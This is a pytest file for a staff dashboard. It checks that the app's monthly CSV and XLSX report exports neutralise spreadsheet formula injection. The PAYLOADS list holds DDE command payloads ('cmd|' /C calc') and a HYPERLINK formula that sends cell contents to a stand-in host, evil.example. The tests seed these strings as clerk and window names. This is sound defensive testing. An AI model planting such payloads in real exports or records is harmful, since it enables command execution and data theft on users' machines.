"""Red-team item 6: formula injection through exports. A supervisor can name a clerk ``=cmd|' /C calc'!A0``;
the month report's CSV must neutralise such cells (OWASP: a leading ``'``) and its XLSX must hold them as
text, never as formulas.

The hand-made month (tests/reports) is seeded into the real database, the clerks are renamed through the
real API by a supervisor, and the real export endpoints are read back with csv and openpyxl."""

from __future__ import annotations

import csv
import io
from typing import Any

import openpyxl
import pytest
from fastapi import FastAPI
from sqlalchemy import select

from dashboard.db.models import Staff, Window
from dashboard.enums import Role
from dashboard.reports.export import neutralise
from dashboard.reports.seed import seed_month
from tests.reports.fixture_month import fixture_month

pytestmark = pytest.mark.db

PAYLOADS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|'/C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
PARAMS = {"year": 2026, "month": 11}


def _seed_hostile_names(app: FastAPI, api: Any) -> list[str]:
    with app.state.ctx.db.session() as s:
        seed_month(s, fixture_month().model_copy(update={"rulings": ()}), site_id="hall1")
    with app.state.ctx.db.session() as s:
        staff_ids = list(s.scalars(select(Staff.id).order_by(Staff.id)))
        window = s.scalars(select(Window).order_by(Window.id)).first()
        assert window is not None
        window.name = "=HYPERLINK(\"http://evil.example\",\"w\")"
    supervisor = api.client(Role.SUPERVISOR)
    names = []
    for staff_id, payload in zip(staff_ids, PAYLOADS, strict=False):
        r = supervisor.patch(f"/api/v1/staff/{staff_id}", json={"name": payload})
        assert r.status_code == 200, r.text
        names.append(payload)
    return names


def _dangerous(text: str) -> bool:
    """Text a spreadsheet would evaluate (a plain negative number such as -4 is data, not a formula)."""
    try:
        float(text.rstrip("%"))
        return False
    except ValueError:
        return text[:1] in ("=", "+", "-", "@", "\t", "\r")


def test_csv_exports_neutralise_formula_cells(app: FastAPI, api: Any) -> None:
    names = _seed_hostile_names(app, api)
    viewer = api.client(Role.VIEWER)
    seen: set[str] = set()
    for view in ("daily", "clerks", "windows", "absences", "violations"):
        r = viewer.get("/api/v1/reports/monthly.csv", params={**PARAMS, "view": view})
        assert r.status_code == 200, r.text
        rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"), newline="")))
        for row in rows[1:]:
            for cell in row:
                assert not _dangerous(cell), (view, cell)
                seen.add(cell)
    # The names are still there, readable, behind the neutralising quote.
    assert {"'" + n for n in names} <= seen


def test_xlsx_export_has_no_formula_cells(app: FastAPI, api: Any) -> None:
    names = _seed_hostile_names(app, api)
    r = api.client(Role.SUPERVISOR).get("/api/v1/reports/monthly.xlsx", params=PARAMS)
    assert r.status_code == 200
    workbook = openpyxl.load_workbook(io.BytesIO(r.content))
    texts: set[str] = set()
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.add(cell.value)
                    if _dangerous(cell.value):
                        assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
    assert set(names) <= texts  # the text is kept as it was entered, marked as text


def test_neutralise_is_owasp() -> None:
    for payload in PAYLOADS:
        assert neutralise(payload) == "'" + payload
    for harmless in ("张三", "a=b", "O'Brien", "", "1-2"):
        assert neutralise(harmless) == harmless


def test_control_characters_in_a_name_do_not_break_the_xlsx(app: FastAPI, api: Any) -> None:
    """The schemathesis sweep found it: a clerk named with a control character made the XLSX export 500."""
    _seed_hostile_names(app, api)
    with app.state.ctx.db.session() as s:
        staff_id = s.scalars(select(Staff.id).order_by(Staff.id)).first()
    assert api.client(Role.SUPERVISOR).patch(f"/api/v1/staff/{staff_id}", json={"name": "张\x07三\x1b"}
                                             ).status_code == 200
    r = api.client(Role.SUPERVISOR).get("/api/v1/reports/monthly.xlsx", params=PARAMS)
    assert r.status_code == 200
    texts = {c.value for ws in openpyxl.load_workbook(io.BytesIO(r.content)).worksheets
             for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    assert "张\ufffd三\ufffd" in texts
